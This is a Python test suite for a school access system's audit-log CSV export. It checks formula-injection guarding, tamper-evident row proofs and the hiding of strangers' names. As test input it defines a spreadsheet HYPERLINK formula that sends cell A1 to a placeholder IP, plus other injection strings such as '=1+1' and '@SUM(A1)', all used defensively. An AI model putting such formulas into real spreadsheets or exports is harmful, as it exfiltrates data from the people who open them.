"""That a log can be read in a spreadsheet: no cell is a formula, each row is proven, and no name leaks."""

import csv
import io
import re
from collections.abc import Callable
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import Connection, update

from access import acts_people
from access.database import reading, writing
from access.enrolment import Child
from access.errors import Malformed, Unverified
from access.log import proven
from access.log.canonical import Json
from access.log.entry import INSTALLATION, append
from access.log.exports import ExportReader, check_export
from access.log.notes import NoteKey
from access.log.proven import choose
from access.log.tables import COLUMNS, check_table, guarded, write_table
from access.people import Person
from tests.access.log.exporting import exported, signed
from tests.access.writing_school import MACHINE, WHY, WritingSchool
from tests.conftest import MORNING

ZONE = ZoneInfo("Asia/Shanghai")
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"see")'

Row = dict[str, str]


def tabled(connection: Connection, log: int, note: bytes) -> tuple[bytes, bytes]:
    """Return the table of a whole log, and its proofs."""
    table, proofs = io.BytesIO(), io.BytesIO()
    choice = choose(connection, log, note, since=None, until=None)
    write_table(connection, choice, ZONE, table=table.write, proofs=proofs.write)
    return table.getvalue(), proofs.getvalue()


def table_of(school: WritingSchool, log: int | None = None) -> tuple[NoteKey, bytes, bytes]:
    """Return the key, the table and the proofs of a log as it stands."""
    of = school.id if log is None else log
    with writing(school.world.database) as connection:
        key, note = signed(connection, of)
    with reading(school.world.database) as connection:
        return key, *tabled(connection, of, note)


def rows_of(table: bytes) -> list[Row]:
    return list(csv.DictReader(io.StringIO(table.decode("utf-8-sig"), newline="")))


def says(school: WritingSchool, body: dict[str, Json], kind: str = "log:read") -> None:
    """Write an entry."""
    with writing(school.world.database) as connection:
        append(connection, log=school.id, kind=kind, at=MORNING, body=body)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("nap", "nap"),
        ("", ""),
        ("10-12, by the door; a+b", "10-12, by the door; a+b"),
        (FORMULA, f"'{FORMULA}"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tnap", "'\tnap"),
        ("\rnap", "'\rnap"),
        ("\nnap", "'\nnap"),
        ("\0nap", "'\0nap"),
        ("  =1", "'  =1"),
        ("\u00a0=1", "'\u00a0=1"),
        ("\t=1", "'\t'=1"),
        ("＝1", "'＝1"),
        ("＋1－1＠", "'＋1－1＠"),
        ("nap;=1", "nap;'=1"),
        ("nap, =1|-1\t@", "nap,' =1|'-1\t'@"),
        ("nap\n=1", "nap\n'=1"),
        ('nap;"=1', "nap;\"'=1"),
    ],
)
def test_a_cell_is_no_formula_wherever_it_is_split(text: str, cell: str) -> None:
    assert guarded(text) == cell


@pytest.mark.parametrize("at_once", [7, 2_048])
def test_a_table_has_every_entry_in_school_time_with_names_and_ids(
    written: WritingSchool, monkeypatch: pytest.MonkeyPatch, at_once: int
) -> None:
    monkeypatch.setattr(proven, "AT_ONCE", at_once)

    key, table, proofs = table_of(written)

    rows, entries = rows_of(table), written.entries()[::-1]
    assert table.startswith(b"\xef\xbb\xbf" + ",".join(f'"{name}"' for name in COLUMNS).encode() + b"\r\n")
    assert [row["number"] for row in rows] == [str(n) for n in range(len(entries))]
    assert [row["kind"] for row in rows] == [entry.kind for entry in entries]
    verified = next(row for row in rows if row["kind"] == "guardianship:verified")
    assert verified["actor"] == f"Director #{written.director.person_id}"
    assert verified["person"] == f"Guardian #{written.guardian}"
    assert verified["child"] == f"小豆 #{written.child}"
    assert verified["reason"] == WHY
    assert (verified["time"], verified["at"]) == ("2026-03-10 09:00:00", "2026-03-10T01:00:00.000000Z")
    assert rows[0]["actor"] == "cli:test"
    assert check_table(io.BytesIO(table), ExportReader(io.BytesIO(proofs), key), ZONE) == len(entries)
    assert check_export(io.BytesIO(proofs), key).entries == len(entries)


def test_no_cell_of_a_table_is_a_formula_whatever_was_written(written: WritingSchool) -> None:
    with writing(written.world.database) as connection:
        connection.execute(update(Child).values(name="=1+1"))
        connection.execute(update(Person).where(Person.id == written.guardian).values(name="@SUM(A1)"))
    body: dict[str, Json] = {
        "actor": {"person": None, "via": "-2"},
        "reason": FORMULA,
        "device": "\t=2",
        "subject": {"child": written.child, "person": written.guardian},
    }
    says(written, body)
    says(written, {"actor": {"person": None, "via": "cli:x"}, "reason": 'a;=1\r\n"=1,=1'})

    key, table, proofs = table_of(written)

    for dialect in (",", ";", "\t"):
        split = csv.reader(io.StringIO(table.decode("utf-8-sig"), newline=""), delimiter=dialect)
        cells = [cell for row in split for cell in row]
        assert [cell for cell in cells if re.match(r"[\s\0]*[=+\-@＝＋－＠]|[\t\r\n]", cell)] == []
    last = rows_of(table)[-2]
    assert last["reason"] == f"'{FORMULA}"
    assert (last["child"], last["person"]) == (f"'=1+1 #{written.child}", f"'@SUM(A1) #{written.guardian}")
    assert check_table(io.BytesIO(table), ExportReader(io.BytesIO(proofs), key), ZONE) > 0


def test_a_stranger_who_asked_for_a_room_has_no_name_in_a_table(written: WritingSchool) -> None:
    stranger = acts_people.add_person(
        written.world, actor=MACHINE, reason=WHY, name="Stranger", sign_in_name="stranger", school_id=None
    )
    for person in (stranger, written.guardian):
        subject: dict[str, Json] = {"person": person, "room": written.room}
        refused: dict[str, Json] = {"actor": {"person": person, "via": "web"}, "reason": "child:none_here"}
        says(written, {**refused, "subject": subject}, "viewing:refused")

    _, table, _ = table_of(written)

    foreign, ours = rows_of(table)[-2:]
    assert (foreign["actor"], foreign["person"]) == (f"#{stranger}",) * 2
    assert foreign["room"] == f"Oak room #{written.room}"
    assert (ours["actor"], ours["person"]) == (f"Guardian #{written.guardian}",) * 2


def test_the_installations_table_has_ids_only(written: WritingSchool) -> None:
    _, table, _ = table_of(written, INSTALLATION)

    rows = rows_of(table)
    assert {row["person"] for row in rows} >= {f"#{written.guardian}"}
    assert "Guardian" not in table.decode()


def changed(column: str, value: Callable[[str], str]) -> Callable[[list[Row]], object]:
    def change(rows: list[Row]) -> None:
        row = next(row for row in rows if row["kind"] == "guardianship:verified")
        row[column] = value(row[column])

    return change


@pytest.mark.parametrize(
    "forge",
    [
        *(pytest.param(changed(column, lambda said: said + "0"), id=column) for column in COLUMNS),
        *(
            pytest.param(changed(column, lambda said: said.rpartition("#")[0]), id=f"{column} without its id")
            for column in ("actor", "person", "child")
        ),
        pytest.param(changed("room", lambda _: "#1"), id="a room where there is none"),
        pytest.param(lambda rows: rows[0].update(actor="Somebody cli:test"), id="a name for nobody"),
        pytest.param(lambda rows: rows.pop(), id="a row less"),
        pytest.param(lambda rows: rows.append(rows[-1]), id="a row more"),
        pytest.param(lambda rows: rows.insert(0, rows.pop(1)), id="another order"),
    ],
)
@pytest.mark.sqlite
def test_a_table_that_was_changed_is_refused(
    written: WritingSchool, forge: Callable[[list[Row]], object]
) -> None:
    key, table, proofs = table_of(written)
    rows = rows_of(table)
    assert respelled(rows) == table

    forge(rows)

    with pytest.raises(Unverified):
        check_table(io.BytesIO(respelled(rows)), ExportReader(io.BytesIO(proofs), key), ZONE)


@pytest.mark.sqlite
def test_another_name_is_not_noticed_and_another_person_is(written: WritingSchool) -> None:
    key, table, proofs = table_of(written)
    rows = rows_of(table)
    changed("person", lambda said: said.replace("Guardian", "Somebody"))(rows)

    assert check_table(io.BytesIO(respelled(rows)), ExportReader(io.BytesIO(proofs), key), ZONE) == len(rows)


@pytest.mark.sqlite
def test_what_is_no_table_is_refused(written: WritingSchool) -> None:
    key, table, proofs = table_of(written)
    first = table.index(b"\r\n") + 2

    for damaged in (
        b"",
        table[first:],
        table + b"\xff\r\n",
        table + b'"a" b\r\n',
        table[:first] + b'"0"\r\n',
    ):
        with pytest.raises(Malformed):
            check_table(io.BytesIO(damaged), ExportReader(io.BytesIO(proofs), key), ZONE)
    with pytest.raises(Malformed):
        check_table(io.BytesIO(table), ExportReader(io.BytesIO(proofs[:-1]), key), ZONE)


@pytest.mark.sqlite
def test_the_proofs_of_a_table_are_an_export(written: WritingSchool) -> None:
    with writing(written.world.database) as connection:
        _, note = signed(connection, written.id)
    with reading(written.world.database) as connection:
        assert tabled(connection, written.id, note)[1] == exported(connection, written.id, note)


def respelled(rows: list[Row]) -> bytes:
    """Write rows as a spreadsheet does that quotes every cell."""
    out = io.StringIO()
    writer = csv.DictWriter(out, COLUMNS, quoting=csv.QUOTE_ALL)
    writer.writeheader()
    writer.writerows(rows)
    return b"\xef\xbb\xbf" + out.getvalue().encode()
